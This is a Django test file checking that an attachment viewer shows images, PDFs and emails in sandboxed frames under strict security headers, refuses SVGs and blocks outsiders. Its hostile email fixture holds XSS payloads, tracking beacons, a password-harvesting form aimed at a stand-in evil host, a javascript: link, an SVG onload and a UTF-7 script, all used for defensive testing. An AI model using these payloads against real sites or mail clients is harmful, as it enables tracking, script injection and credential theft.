"""Looking at files: pictures, documents and mails in frames that may do nothing; the rest is a download."""

import base64
import contextlib

import pytest
from django.test import Client
from django.utils import timezone

from interactions.channels import mail_view
from interactions.domain import intake
from interactions.errors import Unreadable
from interactions.models import Attachment, Interaction
from interactions.payloads import File
from partners.enums import Channel
from partners.models import Partner
from tests.factories.world import an_intake, an_interaction
from tests.interactions.console.pages import at, text_of

pytestmark = pytest.mark.django_db

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HOSTILE = b"""From: Mallory <mallory@example.org>
Subject: =?utf-8?q?Gr=C3=BC=C3=9Fe?=
Content-Type: text/html; charset=utf-8

<style>body { background: url(https://evil.example.org/seen) }</style><script>alert(1)</script>
<p style="color: red; position: fixed; background-image: url(https://evil.example.org/seen)">Hello</p>
<img src="https://evil.example.org/pixel.png"><form action="https://evil.example.org"><input name="password"></form>
<a href="javascript:alert(1)">bad</a> <a href="https://good.example.org">good</a><iframe src="https://evil.example.org">
"""


def files_of(acme: Partner, *files: File, original: bytes = b"") -> dict[str, Attachment]:
    mail = an_intake(
        "Mail",
        channel=Channel.EMAIL,
        sender="clerk@example.org",
        partner_id=None,
        files=files,
        original=File(name="original.eml", content=original or b"From: x\n\nx", content_type="message/rfc822"),
    )
    interaction = intake.receive(mail, at=timezone.now()).interaction
    assert interaction is not None
    return {file.name: file for file in Attachment.objects.filter(interaction=interaction)}


def test_a_picture_is_seen_in_small_and_in_large(browser: Client, acme: Partner) -> None:
    file = files_of(acme, File(name="mast.png", content=PNG))["mast.png"]

    shown = browser.get(f"/console/files/{file.pk}/image/")

    assert f"/console/files/{file.pk}/image/" in text_of(browser.get(at(file.interaction)))
    assert 'class="look__image"' in text_of(browser.get(f"/console/files/{file.pk}/look/"))
    assert shown.headers["Content-Type"] == "image/png"
    assert "sandbox" in shown.headers["Content-Security-Policy"]
    assert shown.headers["X-Content-Type-Options"] == "nosniff"
    shown.close()


def test_a_document_is_read_in_a_frame(browser: Client, acme: Partner) -> None:
    file = files_of(acme, File(name="bill.pdf", content=b"%PDF-1.4 x"))["bill.pdf"]

    shown = browser.get(f"/console/files/{file.pk}/pdf/")

    assert "look__frame" in text_of(browser.get(f"/console/files/{file.pk}/look/"))
    assert shown.headers["Content-Type"] == "application/pdf"
    assert "default-src 'none'" in shown.headers["Content-Security-Policy"]
    shown.close()


@pytest.mark.parametrize("door", ["image", "pdf", "mail"])
def test_what_is_something_else_is_never_shown(browser: Client, acme: Partner, door: str) -> None:
    file = files_of(acme, File(name="page.svg", content=b"<svg onload='alert(1)'/>", content_type="image/svg+xml"))

    assert browser.get(f"/console/files/{file['page.svg'].pk}/{door}/").status_code == 404
    assert "not shown here" in text_of(browser.get(f"/console/files/{file['page.svg'].pk}/look/"))


def test_a_mail_is_seen_as_its_sender_saw_it_and_does_nothing(browser: Client, acme: Partner) -> None:
    original = files_of(acme, original=HOSTILE)["original.eml"]

    frame = browser.get(f"/console/files/{original.pk}/mail/")
    around = text_of(browser.get(f"/console/files/{original.pk}/look/"))

    assert "sandbox" in frame.headers["Content-Security-Policy"]
    assert 'sandbox="allow-popups"' in around
    assert "Grüße" in around
    for word in ("evil", "<script", "javascript", "password", "position"):
        assert word not in text_of(frame)
    assert "Hello" in text_of(frame)
    assert 'href="https://good.example.org"' in text_of(frame)


@pytest.mark.parametrize("raw", [b"", b"\x00\xff", b"Content-Type: text/html; charset=utf-7\n\n+ADw-script+AD4-"])
def test_no_mail_breaks_the_view(raw: bytes) -> None:
    with contextlib.suppress(Unreadable):
        assert "<script" not in mail_view.of(raw).html


def test_nobody_else_sees_a_file(browser: Client, matter: Interaction) -> None:
    file = an_interaction(files=(File(name="mast.png", content=PNG),)).attachments.get()

    for door in ("look", "image", "pdf", "mail"):
        assert Client().get(f"/console/files/{file.pk}/{door}/").status_code == 302
